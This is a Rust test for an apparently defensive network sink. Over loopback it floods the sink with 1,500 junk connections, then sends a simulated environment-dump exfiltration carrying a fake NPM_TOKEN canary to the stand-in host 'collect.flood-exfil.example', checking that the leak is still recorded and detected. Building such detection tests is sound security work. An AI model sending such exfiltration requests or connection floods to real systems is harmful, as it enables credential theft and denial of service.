//! Issue 19 (sink flooding) on loopback: 1,500 connections of junk, left open, then one
//! request carrying a canary. The sink must stay within its connection, memory and
//! record limits, still record the canary request with its whole body (so the canary
//! search finds it), report the flood as a `limit.hit`, summarise what it only counted,
//! and say in its footer that the record is incomplete. No Docker; nothing leaves
//! 127.0.0.1.
#![allow(clippy::unwrap_used)]

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use airlock_events::{Canary, Event, EventKind};
use airlock_sink::{BaitConfig, Budgets, EventLog, Limits, Sink, SinkConfig};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const CONNECTIONS: usize = 1500;
const JUNK: usize = 256 * 1024;

fn limits() -> Limits {
    Limits {
        max_connections: 256,
        capture_memory: 4 << 20,
        budgets: Budgets {
            max_record_bytes: 16 << 20,
            ..Budgets::default()
        },
        ..Limits::default()
    }
}

async fn junk_connection(
    addr: std::net::SocketAddr,
    i: usize,
    junk: &'static [u8],
    connected: Arc<AtomicUsize>,
) {
    let Ok(mut s) = TcpStream::connect(addr).await else {
        return;
    };
    connected.fetch_add(1, Ordering::SeqCst);
    if i % 2 == 1 {
        let head = format!(
            "POST /u{i} HTTP/1.1\r\nHost: h{i}.flood.example\r\nContent-Length: {}\r\n\r\n",
            junk.len()
        );
        if s.write_all(head.as_bytes()).await.is_err() {
            return;
        }
    }
    let _ = s.write_all(junk).await;
    // Keep it open (reading whatever comes back) until the sink closes it.
    let mut sink = [0u8; 4096];
    while let Ok(n) = s.read(&mut sink).await {
        if n == 0 {
            break;
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_flood_of_junk_hides_nothing_and_stays_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("sink.jsonl");
    let log = EventLog::to_file(&path).unwrap();
    let config = SinkConfig {
        listen: "127.0.0.1".parse().unwrap(),
        tcp_port: 0,
        dns_port: 0,
        udp_port: None,
        ca: None,
        bait: BaitConfig::default(),
        limits: limits(),
    };
    let sink = Sink::start(config, log.clone()).await.unwrap();
    let addr = sink.tcp_addr;

    // Junk: the same random-looking megabytes on every connection, as a flood would.
    let junk: &'static [u8] = Box::leak(
        (0..JUNK)
            .map(|i| (i as u32).wrapping_mul(2_654_435_761).to_be_bytes()[0])
            .collect::<Vec<u8>>()
            .into_boxed_slice(),
    );
    let connected = Arc::new(AtomicUsize::new(0));
    let mut clients = Vec::new();
    for i in 0..CONNECTIONS {
        clients.push(tokio::spawn(junk_connection(
            addr,
            i,
            junk,
            connected.clone(),
        )));
    }
    // The flood is under way: every connection made (most still queued for the sink to
    // accept, or sending).
    let deadline = Instant::now() + Duration::from_secs(60);
    while connected.load(Ordering::SeqCst) < CONNECTIONS {
        assert!(Instant::now() < deadline, "the flood could not connect");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }

    // The one request that matters: an environment dump whose canary sits past the
    // first 4 KiB of the body.
    let canary = "npm_FLOODcanary0123456789abcdefghijklmnop";
    let padding: String = (0..200)
        .map(|i| format!("\"VAR_{i:03}\":\"value-{i:03}-xxxxxxxx\","))
        .collect();
    let body = format!("{{{padding}\"NPM_TOKEN\":\"{canary}\"}}");
    assert!(body.find(canary).unwrap() > 4096);
    let mut s = TcpStream::connect(addr).await.unwrap();
    let req = format!(
        "POST /c HTTP/1.1\r\nHost: collect.flood-exfil.example\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    s.write_all(req.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    tokio::time::timeout(Duration::from_secs(60), s.read_to_end(&mut answer))
        .await
        .expect("the sink answers the real request under flood")
        .unwrap();
    assert!(answer.starts_with(b"HTTP/1.1 200"), "{answer:?}");

    // Stop with the junk connections still open.
    let t = Instant::now();
    sink.shutdown(Duration::from_secs(10), vec![]).await;
    let stop = t.elapsed();
    for c in clients {
        c.abort();
    }
    assert!(stop < Duration::from_secs(10), "shutdown took {stop:?}");

    let size = std::fs::metadata(&path).unwrap().len();
    let out = airlock_sink::read_events(&path).unwrap();
    let events: Vec<Event> = out.events;
    // The record stays within its budget (the last summary lines are written past it).
    assert!(size < (16 << 20) + (64 << 10), "record of {size} bytes");
    let notes: Vec<String> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Note { message }
            | EventKind::LimitHit {
                detail: message, ..
            } => Some(message.clone()),
            _ => None,
        })
        .collect();

    // The canary request is there with its whole body, and the canary search finds it.
    let exfil = events
        .iter()
        .find_map(|e| match &e.kind {
            EventKind::HttpRequest { host, body, .. } if host == "collect.flood-exfil.example" => {
                Some(body.clone())
            }
            _ => None,
        })
        .expect("the canary request is recorded");
    assert_eq!(exfil, body);
    let searcher = airlock_bait::LeakSearcher::new(&[Canary {
        id: "env-npm-token".into(),
        kind: "npm_token".into(),
        location: "env:NPM_TOKEN".into(),
        value: canary.into(),
    }]);
    let leaks = searcher.scan_events(events.iter());
    assert!(
        leaks.iter().any(|l| matches!(&l.kind,
            EventKind::CanaryLeaked { destination, .. } if destination.contains("collect.flood-exfil.example"))),
        "{leaks:?}"
    );

    // Every junk request the sink saw is recorded with its head and the first bytes of
    // its body (a connection closed to make room before it sent anything is `empty`).
    let heads = events
        .iter()
        .filter(|e| {
            matches!(&e.kind, EventKind::HttpRequest { path, body, .. }
            if path.starts_with("/u") && !body.is_empty())
        })
        .count();
    let http_conns = events
        .iter()
        .filter(
            |e| matches!(&e.kind, EventKind::NetConnection { protocol, .. } if protocol == "http"),
        )
        .count();
    assert_eq!(
        heads + 1,
        http_conns,
        "every junk request's head: {notes:#?}"
    );
    assert!(heads >= CONNECTIONS / 2 * 95 / 100, "{heads}: {notes:#?}");

    // The flood is reported once, as soon as it was one, and the totals at the end.
    let floods: Vec<&String> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::LimitHit { limit, detail } if limit == "network" => Some(detail),
            _ => None,
        })
        .collect();
    assert_eq!(floods.len(), 1, "{floods:?}");
    assert!(floods[0].starts_with("network flood: "), "{floods:?}");
    let totals = notes
        .iter()
        .find(|m| m.starts_with("sink flood totals: "))
        .expect("the flood's totals");
    assert!(
        totals.starts_with(&format!(
            "sink flood totals: network flood: {} connections to 1 destination(s), ",
            CONNECTIONS + 1
        )),
        "{totals}"
    );
    assert!(
        totals.contains("connections closed to stay within"),
        "{totals}"
    );
    let summary = events.iter().any(|e| {
        matches!(&e.kind, EventKind::Note { message } if message.starts_with("sink flood summary:"))
    });
    assert!(summary, "a flood summary note");

    // At most 256 connections served at once (plus the ones winding down).
    let conns: Vec<&str> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::NetConnection { end, .. } => Some(end.as_str()),
            _ => None,
        })
        .collect();
    assert!(conns.contains(&"evicted"), "idle connections made room");

    // The footer says the record is incomplete, and why.
    let footer = out.footer.expect("footer");
    assert!(!footer.complete);
    assert!(
        footer.gaps.iter().any(|g| g.contains("only counted")),
        "{:?}",
        footer.gaps
    );
    assert!(
        !footer.gaps.iter().any(|g| g.contains("unfinished")),
        "every connection open at shutdown was recorded: {:?}",
        footer.gaps
    );
}
